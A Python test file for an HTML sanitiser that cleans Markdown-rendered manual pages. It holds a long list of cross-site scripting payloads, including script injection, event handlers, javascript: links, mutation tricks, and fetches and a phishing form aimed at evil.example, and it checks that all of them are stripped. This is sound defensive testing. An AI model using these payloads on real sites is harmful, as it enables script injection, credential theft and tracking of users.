"""Nothing that people wrote can run, load, restyle or take over a page; what a manual needs comes through."""

from __future__ import annotations

import re
import time
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import Markup
from pygments.token import STANDARD_TYPES

from aimsbook.prose import manual_converter, render
from aimsbook.sanitise import PREFIX, clean, escape_title

pytestmark = pytest.mark.filterwarnings("error")  # the sanitiser reports what goes wrong in its filter as a warning


def names(words: str) -> frozenset[str]:
    return frozenset(words.split())


TAGS = names(
    "a abbr b bdi blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure "
    "h1 h2 h3 h4 h5 h6 hr i img input ins kbd label li mark ol p pre q s samp section small span strong sub summary "
    "sup table tbody td tfoot th thead time tr u ul var wbr"
)
ATTRIBUTES = names(
    "id class title lang dir aria-label aria-labelledby aria-describedby href rel align span open src alt width height "
    "type name checked disabled for value start reversed colspan rowspan headers scope datetime"
)
MANUAL = manual_converter(
    [
        "abbr", "admonition", "attr_list", "def_list", "footnotes", "md_in_html", "tables", "toc",
        "pymdownx.betterem", "pymdownx.caret", "pymdownx.details", "pymdownx.highlight", "pymdownx.keys",
        "pymdownx.mark", "pymdownx.superfences", "pymdownx.tabbed", "pymdownx.tasklist", "pymdownx.tilde",
    ],
    {
        "pymdownx.tabbed": {"alternate_style": True},
        "pymdownx.tasklist": {"custom_checkbox": True},
        "tables": {"use_align_attribute": True},
        "toc": {"permalink": True},
    },
)  # fmt: skip

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></ScRiPt>",
    "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=`x`onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img src="x.png" onload="alert(1)" srcset="https://evil.example/x 2x">',
    "<img src=https://evil.example/p.gif>",
    "<img src=//evil.example/p.gif>",
    "<img src=/\\evil.example/p.gif>",
    "<img src='/\t/evil.example/p.gif'>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<img src=javascript:alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<template><script>alert(1)</script></template>",
    "<style>@import url(https://evil.example/x.css);*{display:none}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<div style='position:fixed;inset:0;z-index:9999'>overlay</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x></applet>",
    "<form action=https://evil.example/><input name=password type=password><button>Log in</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio autoplay onplay=alert(1) src=x.wav></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<dialog open>Session over, log in at evil.example</dialog>",
    "<portal src=https://evil.example/>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='\\\\evil.example\\x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href=blob:https://x/1>x</a>",
    "<a href=https://evil.example target=_blank ping=https://evil.example download>x</a>",
    "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<a name=__config id=__config>x</a>",
    "<p id=__config class='md-header md-overlay js' data-md-component=search hidden>x</p>",
    "<label for=__search class=md-overlay>x</label>",
    "<p contenteditable tabindex=1 accesskey=g draggable=true>x</p>",
    "<p slot=x is=y part=z nonce=1>x</p>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<!DOCTYPE html><html><head><script>alert(1)</script></head></html>",
    "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
    "<abbr title='<img src=x onerror=alert(1)>'>x</abbr>",
    "<abbr title='&amp;lt;img src=x onerror=alert(1)&amp;gt;'>x</abbr>",
    "<div class='mermaid arithmatex'>click A call alert(1)</div>",
    "<pre class=mermaid><code>graph TD; A-->B; click A href 'javascript:alert(1)'</code></pre>",
    "</article></main><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<table><td background=https://evil.example/x>x</table>",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<p \x00onclick=alert(1)>x",
    "[x](javascript:alert(1))",
    "[x]( javascript&colon;alert(1))",
    "![x](https://evil.example/x.png){ onerror=alert(1) }",
    "[x](y){ onclick=alert(1) style=color:red target=_blank }",
    "# h { #__config .md-header onclick=alert(1) }",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](y 'a\" onmouseover=alert(1) b')",
)


class Elements(HTMLParser):
    """Reads HTML as a browser's tokenizer does, and keeps elements, attributes and text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def values(self, name: str) -> list[str]:
        return [attributes[name] for _, attributes in self.elements if name in attributes]

    def classes(self) -> set[str]:
        return {name for value in self.values("class") for name in value.split()}


def assert_harmless(html: str) -> None:
    """The whole of what the boundary promises of its output."""
    page = Elements(html)
    assert not page.others
    assert {tag for tag, _ in page.elements} <= TAGS
    assert {name for _, attributes in page.elements for name in attributes} <= ATTRIBUTES
    for value in page.values("href"):
        assert re.match(r"https?://[^/]|mailto:|(?!//)[^:\\\s]*([#?/].*)?\Z", value, re.IGNORECASE), value
        assert not re.search(r"[\s\\\x00]", value)
    for value in page.values("src"):
        assert re.fullmatch(r"[^/:\\\s][^:\\\s]*", value), value
    for name in ("id", "name", "for"):
        assert all(value.startswith(PREFIX) for value in page.values(name))
    assert not [name for name in page.classes() if re.match(r"md-|ab-|js$|no-js$|mermaid|arithmatex", name)]
    assert {attributes["type"] for tag, attributes in page.elements if tag == "input"} <= {"radio", "checkbox"}
    for value in [*page.values("title"), *page.values("alt"), *page.values("aria-label")]:
        assert not Elements(value).elements
        assert not Elements(unescape(value)).elements
    assert clean(html, prefix="") == html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_does_no_harm_through_any_door(payload: str) -> None:
    assert_harmless(clean(payload))
    assert_harmless(clean(f"<p>before {payload} after</p>"))
    assert_harmless(clean(f"<table><tr><td>{payload}</td></tr></table>"))
    assert_harmless(clean(render(payload)))
    assert_harmless(clean(MANUAL(payload)))
    assert_harmless(clean(MANUAL(f'!!! note "{payload}"\n    {payload}\n')))


def test_every_attribute_with_any_value_is_kept_or_dropped() -> None:
    attributes = " ".join(f'{name}="{{0}}"' for name in sorted(ATTRIBUTES))
    for value in ("", " ", "x", "1", "radio", "a", "\N{SNOWMAN}", "&lt;b>", "javascript:x"):
        assert_harmless(clean("".join(f"<{tag} {attributes.format(value)}>x</{tag}>" for tag in sorted(TAGS))))


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60


SHREDS = (
    "< > / \" ' = & ; ` <p <a <b> </b> <table> <td> <svg> <math> <style> </style> <!-- --> <![CDATA[ ]]> onerror=x "
    "id=y href=# class=js title= x #y type=radio <input &lt; &#60;"
)
PIECES = st.sampled_from([*PAYLOADS, *sorted(names(SHREDS)), " "])


@settings(deadline=None, max_examples=300, derandomize=True)
@given(st.lists(PIECES, max_size=10).map("".join))
def test_no_mixture_of_payloads_does_harm(html: str) -> None:
    assert_harmless(clean(html))


@settings(deadline=None, max_examples=150, derandomize=True)
@given(st.text(max_size=60), st.text(max_size=20))
def test_no_text_does_harm(text: str, title: str) -> None:
    assert_harmless(clean(render(text)))
    assert_harmless(clean(f'<p id="{title}" title="{title}" class="{title}"><a href="{title}">{text}</a></p>'))


@settings(deadline=None, max_examples=200, derandomize=True)
@given(st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), max_size=80))
def test_no_word_of_a_record_is_lost(text: str) -> None:
    html = render(text)
    assert Elements(clean(html)).text.split() == Elements(html).text.split()


def test_an_id_cannot_be_one_that_the_theme_looks_up() -> None:
    html = clean(MANUAL("## __config\n\n## Two words {#__search}\n"))
    assert Elements(html).values("id") == [f"{PREFIX}__config", f"{PREFIX}__search"]


@pytest.mark.parametrize(
    "markdown",
    [
        "## Überschrift & more\n\n[to](#uberschrift-more)\n",
        "text[^1] and[^two] and[^1]\n\n[^1]: one\n[^two]: two\n\n    more\n",
        '=== "A"\n    one\n\n=== "B"\n    two\n',
        '<p id="a b" aria-labelledby="c"></p><p id="c"></p>',
        "- [ ] open\n- [x] done\n",
    ],
)
def test_links_within_a_page_lead_where_they_led(markdown: str) -> None:
    page = Elements(clean(MANUAL(markdown)))
    ids = {one for value in page.values("id") for one in value.split()}
    assert {value.removeprefix("#") for value in page.values("href") if value.startswith("#")} <= ids
    assert set(page.values("for")) <= ids
    assert set(page.values("aria-labelledby")) <= ids


def test_links_to_other_chapters_lead_to_their_prefixed_ids() -> None:
    addresses = ("b.html#x", "../records/CTL-1.html#x", "b.html?q#x", "b.html")
    html = "".join(f'<a href="{address}">x</a>' for address in addresses)
    own = {"b.html"}.__contains__
    assert Elements(clean(html, own=own)).values("href") == [
        f"b.html#{PREFIX}x", "../records/CTL-1.html#x", f"b.html?q#{PREFIX}x", "b.html",
    ]  # fmt: skip
    assert Elements(clean(html)).values("href") == list(addresses)


def test_an_address_abroad_is_no_chapter_and_learns_nothing_of_the_page() -> None:
    links = '<a href="https://example.org/b#x" rel="opener">x</a><a href="HTTP://e.org">y</a><a href="b.html">z</a>'
    html = clean(links, own=lambda _path: True)
    assert html == (
        '<a href="https://example.org/b#x" rel="noopener">x</a><a href="HTTP://e.org" rel="noopener">y</a>'
        '<a href="b.html">z</a>'
    )


def test_a_mail_address_is_a_link() -> None:
    assert clean(render("<someone@example.org>")).startswith('<p><a href="mailto:someone@example.org">')


def test_tabs_stay_tabs() -> None:
    page = Elements(clean(MANUAL('=== "A"\n    one\n\n=== "B"\n    two\n')))
    radios = [attributes for tag, attributes in page.elements if tag == "input"]
    assert [one["type"] for one in radios] == ["radio", "radio"]
    assert "checked" in radios[0] and "checked" not in radios[1]
    assert len({one["name"] for one in radios}) == 1
    assert [one["id"] for one in radios] == page.values("for")
    assert {"tabbed-set", "tabbed-alternate", "tabbed-labels", "tabbed-content", "tabbed-block"} <= page.classes()


def test_tasks_stay_ticks_that_nobody_can_change() -> None:
    written = '<input type="checkbox"><input type="checkbox" checked>'
    page = Elements(clean(MANUAL("- [ ] open\n- [x] done\n") + written))
    ticks = [attributes for tag, attributes in page.elements if tag == "input"]
    assert len(ticks) == 4
    assert all(one["type"] == "checkbox" and "disabled" in one for one in ticks)
    assert {"task-list", "task-list-item", "task-list-control", "task-list-indicator"} <= page.classes()


def test_other_inputs_are_gone() -> None:
    assert clean('a<input><input type="text" name="password">b') == "ab"


def test_boxes_stay_boxes() -> None:
    page = Elements(clean(MANUAL('!!! warning inline end "Mind"\n    x\n\n???+ danger\n    y\n')))
    assert {"admonition", "admonition-title", "warning", "inline", "end", "danger"} <= page.classes()
    assert ("details", {"class": "danger", "open": ""}) in page.elements


def test_footnotes_abbreviations_keys_and_marks_stay() -> None:
    page = Elements(clean(MANUAL(
        "HTML[^1] ++ctrl+a++ ==m== ^^i^^ ~~d~~ H~2~O x^2^\n\nTerm\n:   Meaning\n\n[^1]: note\n\n*[HTML]: Markup\n"
    )))  # fmt: skip
    assert {"abbr", "sup", "kbd", "mark", "ins", "del", "sub", "dl", "dt", "dd", "li"} <= {t for t, _ in page.elements}
    assert {"footnote", "footnote-ref", "footnote-backref", "keys", "key-control"} <= page.classes()
    assert "Markup" in page.values("title")


def test_tables_keep_their_alignment() -> None:
    table = "| a | b |\n|:-:|--:|\n| 1 | 2 |\n"
    for html in (render(table), MANUAL(table)):
        assert Elements(clean(html)).values("align") == ["center", "right", "center", "right"]


def test_code_keeps_its_colours() -> None:
    page = Elements(clean(MANUAL('```python title="x.py" linenums="1" hl_lines="1"\ndef f(): return "x"\n```\n')))
    assert {"highlight", "filename", "hll", "k", "s2", "linenos"} <= page.classes()
    assert Elements(clean(render("```python\nx\n```"))).classes() == {"language-python"}
    assert 'def f(): return "x"' in page.text


def test_every_colour_of_the_highlighter_comes_through_in_code_and_nowhere_else() -> None:
    names = sorted(name for name in STANDARD_TYPES.values() if name)
    html = "".join(f'<span class="{name}">x</span>' for name in names)
    assert clean(html) == html
    assert clean(f'<p class="{" ".join(names)}">x</p>') == "<p>x</p>"


def test_pictures_come_from_the_site_alone() -> None:
    page = Elements(clean(
        '<figure><img src="img/a b.png" alt="no"><img src="img/a%20b.png" alt="yes" width="9" height="9">'
        '<img src="../img/c.svg" alt="yes"><img src="/c.png" alt="no"><img src="x:y" alt="no">'
        '<figcaption>Figure</figcaption></figure>'
    ))  # fmt: skip
    assert page.values("src") == ["img/a%20b.png", "../img/c.svg"]
    assert page.values("alt") == ["no", "yes", "yes", "no", "no"]


def test_the_classes_of_the_theme_and_of_our_own_pages_are_not_for_prose() -> None:
    html = '<p class="md-search md-header js no-js ab-state note ab-good hidden">x</p>'
    assert clean(html) == '<p class="note">x</p>'


def test_a_tooltip_is_words_even_to_a_theme_that_takes_it_for_markup() -> None:
    html = '<a href="x" title="1 &lt; 2 &amp; R&amp;D &lt;b&gt; &amp;lt;i&gt;">x</a>'
    shown = Elements(clean(html)).values("title")[0]
    assert shown.replace("\N{WORD JOINER}", "") == "1 < 2 & R&D <b> &lt;i>"
    assert not Elements(shown).elements and not Elements(unescape(shown)).elements


@pytest.mark.parametrize("html", ["<" * 60_000, "<b><i>" * 10_000, "<p " + "a=b " * 20_000, '<a title="' * 10_000])
def test_hostile_html_is_cleaned_in_a_second(html: str) -> None:
    started = time.process_time()
    clean(html)
    assert time.process_time() - started < 1


@settings(deadline=None, max_examples=300, derandomize=True)
@given(st.lists(st.one_of(PIECES, st.text(max_size=8)), max_size=6).map("".join))
def test_a_title_is_never_markup_however_often_it_is_un_escaped(title: str) -> None:
    value = escape_title(title)
    for _ in range(4):
        assert not Elements(value).elements and not Elements(value).others
        assert "</" not in value
        assert value == unescape(value) or not Elements(Markup(value).striptags()).elements
        value = unescape(value)


@pytest.mark.parametrize(
    "title",
    [
        "Plain",
        "Müller & Söhne, R&D",
        "p < 0.05 and q > 3",
        "<b>bold</b>",
        "&lt;b&gt; &copy &#60;",
        "\"quoted\" 'too'",
        "a</title><script>",
    ],
)
def test_a_title_looks_as_it_was_written(title: str) -> None:
    escaped = escape_title(title)
    assert not set('<>"') & set(escaped)
    assert unescape(escaped).replace("\N{WORD JOINER}", "") == title
    assert unescape(Markup(escaped).striptags()).replace("\N{WORD JOINER}", "") == title


@pytest.mark.parametrize("title", ["Plain words", "R&D, 1 < 2, 3 > 2, A&B", "it's"])
def test_a_harmless_title_has_nothing_invisible_in_it(title: str) -> None:
    assert unescape(escape_title(title)) == title
